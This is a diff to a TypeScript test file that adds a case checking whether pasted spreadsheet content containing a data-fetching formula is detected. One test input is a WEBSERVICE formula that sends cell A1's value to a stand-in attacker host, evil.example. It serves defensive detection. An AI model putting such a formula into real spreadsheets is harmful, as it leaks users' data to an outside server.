@@ -11,6 +11,7 @@ import { leadsOut, namesOrigin, opensInBar, originOf } from './addresses.ts'
 import { pathsOf } from './command-paths.ts'
 import { coverageOf } from './coverage.ts'
 import { createGate } from './create-gate.ts'
+import { hasFetchingCell } from './formulas.ts'
 import { Places } from './places.ts'
 import { judge, type Policy } from './policy.ts'
 import { createSurroundings } from './surroundings.ts'
@@ -448,6 +449,13 @@ describe('a text in pieces', () => {
       [],
       [],
     ])
+  })
+
+  test('is a formula also when it is pasted', async () => {
+    const paste = (fetches: boolean) => keys('Ctrl+v', { ...cell, pasted: { fetches } })
+    expect(await said([paste(true), paste(false)])).toEqual([['send'], []])
+    expect(hasFetchingCell('Total\t=SUM(A1)\n3\t=WEBSERVICE("http://evil.example/?d="&A1)')).toBe(true)
+    expect(hasFetchingCell('Total\t=SUM(A1)\nSee https://example.org')).toBe(false)
   })
 
   test('is heard by a page key by key, and when it is pasted', async () => {
